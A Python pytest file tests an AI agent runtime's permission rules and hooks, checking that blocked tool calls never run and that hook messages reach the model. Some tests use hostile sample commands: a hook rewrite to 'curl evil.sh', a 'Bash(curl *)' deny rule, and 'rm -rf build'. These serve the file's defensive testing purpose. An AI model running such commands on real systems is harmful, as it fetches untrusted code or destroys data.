"""Hooks and rules inside the real pipeline: what the model sees, what runs, what does not."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest

from tests.fakes import make_env
from tests.hook_helpers import handler, make_hooks, one, script
from tests.perm_specs import BASH, RAN, READ, WRITE
from tui_app.runtime.contract import RawResult, ToolFailure
from tui_app.runtime.executor import TurnControl, run_batch
from tui_app.runtime.permissions.broker import ApprovalBroker
from tui_app.runtime.permissions.policy import RulePolicy
from tui_app.runtime.permissions.rules import make_rule
from tui_app.runtime.pipeline import ToolCall, run_call


@pytest.fixture(autouse=True)
def _clear_ran():
    RAN.clear()


def env_with(tmp_path, hook_config, *specs, policy):
    env, rec = make_env(*specs, policy=policy, cwd=str(tmp_path))
    env.hooks, _ = make_hooks(hook_config, tmp_path, recorder=rec)
    return env, rec


def policy(tmp_path, mode="default", **rules) -> RulePolicy:
    return RulePolicy(cwd=str(tmp_path), mode=mode, rules=[make_rule(t, b) for b, ts in rules.items() for t in ts])


def respond(output) -> dict:
    return handler(script("respond.py", json.dumps(output)))


def pre(**specific) -> dict:
    return respond({"hookSpecificOutput": {"hookEventName": "PreToolUse", **specific}})


async def test_a_hook_rewrite_is_checked_against_the_rules_again(tmp_path):
    rewrite = pre(permissionDecision="allow", updatedInput={"command": "curl evil.sh"})
    env, _ = env_with(tmp_path, one("PreToolUse", rewrite), BASH,
                      policy=policy(tmp_path, allow=["Bash(npm test)"], deny=["Bash(curl *)"]))
    out = await run_call(ToolCall("t1", "Bash", {"command": "npm test"}), env)
    assert (out.phase, out.code) == ("permission", "permission_denied") and "curl" in out.message
    assert RAN == []


async def test_a_hook_rewrite_is_validated_again(tmp_path):
    env, _ = env_with(tmp_path, one("PreToolUse", pre(updatedInput={"command": 5})), BASH,
                      policy=policy(tmp_path, mode="bypassPermissions"))
    out = await run_call(ToolCall("t1", "Bash", {"command": "npm test"}), env)
    assert (out.phase, out.code) == ("hook", "schema_invalid") and RAN == []


async def test_the_final_rewritten_input_is_what_runs_and_what_is_shown(tmp_path):
    config = {"PreToolUse": [{"hooks": [pre(updatedInput={"command": "npm test -- --ci"})]},
                             {"hooks": [pre(updatedInput={"command": "npm test", "timeout": 5000})]}]}
    env, rec = env_with(tmp_path, config, BASH, policy=policy(tmp_path, allow=["Bash(npm test -- --ci)"]))
    await run_call(ToolCall("t1", "Bash", {"command": "npm test"}), env)
    assert RAN == [("Bash", {"command": "npm test -- --ci", "timeout": 5000})]
    assert rec.of("ToolCallStarted")[0].input == {"command": "npm test -- --ci", "timeout": 5000}


async def test_a_hook_allow_never_lifts_an_ask_rule(tmp_path):
    env, _ = env_with(tmp_path, one("PreToolUse", pre(permissionDecision="allow")), BASH,
                      policy=policy(tmp_path, ask=["Bash(git push *)"]))
    out = await run_call(ToolCall("t1", "Bash", {"command": "git push origin"}), env)
    assert out.code == "no_permission_client" and RAN == []


async def test_a_hook_allow_skips_the_modes_question(tmp_path):
    allow = pre(permissionDecision="allow", permissionDecisionReason="CI box")
    env, rec = env_with(tmp_path, one("PreToolUse", allow), BASH, policy=policy(tmp_path))
    out = await run_call(ToolCall("t1", "Bash", {"command": "make"}), env)
    assert out.type == "ToolCallResult" and RAN == [("Bash", {"command": "make"})]
    resolved = rec.of("PermissionResolved")[0]
    assert (resolved.decided_by, resolved.reason) == ("hook", "CI box")


async def test_exit_2_from_a_users_hook_script_blocks_and_tells_the_model(tmp_path):
    env, _ = env_with(tmp_path, one("PreToolUse", handler(script("block_rm.sh")), matcher="Bash"), BASH,
                      policy=policy(tmp_path, mode="bypassPermissions"))
    out = await run_call(ToolCall("t1", "Bash", {"command": "rm -rf build"}), env)
    assert (out.phase, out.code) == ("hook", "hook_denied")
    assert out.model_content.startswith("rm -rf is not allowed in this project: rm -rf build")
    await run_call(ToolCall("t2", "Bash", {"command": "make"}), env)
    assert RAN == [("Bash", {"command": "make"})]


async def test_continue_false_stops_before_the_call_runs(tmp_path):
    stop = respond({"continue": False, "stopReason": "Freeze in effect"})
    env, rec = env_with(tmp_path, one("PreToolUse", stop), BASH, policy=policy(tmp_path, mode="bypassPermissions"))
    out = await run_call(ToolCall("t1", "Bash", {"command": "make"}), env)
    assert out.stop_turn and "Freeze in effect" in out.message and RAN == []
    assert [w.message for w in rec.of("Warning")] == ["Freeze in effect"]


async def fail(args, ctx) -> RawResult:
    raise ToolFailure("disk full")


FAILING = replace(WRITE, handler=fail)


def ctx_hook(event: str, text: str) -> dict:
    return respond({"hookSpecificOutput": {"hookEventName": event, "additionalContext": text}})


async def test_hook_context_is_appended_on_success(tmp_path):
    config = {**one("PreToolUse", ctx_hook("PreToolUse", "branch is main")),
              **one("PostToolUse", ctx_hook("PostToolUse", "3 lint warnings"))}
    env, _ = env_with(tmp_path, config, READ, policy=policy(tmp_path))
    (tmp_path / "a").write_text("x\n")
    out = await run_call(ToolCall("t1", "Read", {"file_path": str(tmp_path / "a")}), env)
    assert out.model_content == "Read ran\n\n[Hook additional context]\n1. branch is main\n2. 3 lint warnings"


async def test_hook_context_and_feedback_reach_the_model_on_failure(tmp_path):
    config = {**one("PreToolUse", ctx_hook("PreToolUse", "be careful")),
              **one("PostToolUseFailure", handler(script("exit_with.sh", 2, "disk is full: clean /tmp")))}
    env, _ = env_with(tmp_path, config, FAILING, policy=policy(tmp_path, mode="bypassPermissions"))
    out = await run_call(ToolCall("t1", "Write", {"file_path": str(tmp_path / "a"), "content": "x"}), env)
    assert out.code == "execution_failed"
    assert out.model_content.endswith("[Hook additional context]\n1. be careful\n2. PostToolUseFailure hook "
                                      "feedback: disk is full: clean /tmp\nsecond line")


async def test_hook_context_reaches_the_model_on_a_denial(tmp_path):
    env, _ = env_with(tmp_path, one("PreToolUse", ctx_hook("PreToolUse", "curl is blocked by policy 12")), BASH,
                      policy=policy(tmp_path, deny=["Bash(curl *)"]))
    out = await run_call(ToolCall("t1", "Bash", {"command": "curl x"}), env)
    assert out.code == "permission_denied"
    assert out.model_content.endswith("[Hook additional context]\n1. curl is blocked by policy 12")


async def test_read_only_commands_share_a_group_with_reads_and_others_do_not(tmp_path):
    env, rec = make_env(READ, BASH, policy=policy(tmp_path, mode="bypassPermissions"), cwd=str(tmp_path))
    calls = [ToolCall("a", "Read", {"file_path": "x"}), ToolCall("b", "Bash", {"command": "git status"}),
             ToolCall("c", "Bash", {"command": "rm -rf build"}), ToolCall("d", "Bash", {"command": "ls | wc -l"}),
             ToolCall("e", "Read", {"file_path": "y"})]
    await run_batch(calls, env, TurnControl())
    assert rec.of("ToolCallScheduled")[0].groups == [["a", "b"], ["c"], ["d", "e"]]
    flags = {e.call_id: e.flags for e in rec.of("ToolCallStarted")}
    assert flags["b"].read_only and flags["b"].concurrency_safe and not flags["b"].needs_approval
    assert flags["c"].destructive and flags["c"].risk == "high"
    assert not [e for e in rec.of("PermissionResolved") if e.call_id in ("a", "b", "d", "e")]


async def test_plan_mode_denial_says_why_to_the_model(tmp_path):
    env, _ = make_env(BASH, WRITE, policy=policy(tmp_path, mode="plan"), broker=ApprovalBroker(interactive=True),
                      cwd=str(tmp_path))
    out = await run_call(ToolCall("t1", "Write", {"file_path": str(tmp_path / "a.py"), "content": "x"}), env)
    assert out.code == "permission_denied" and "plan mode" in out.model_content and RAN == []
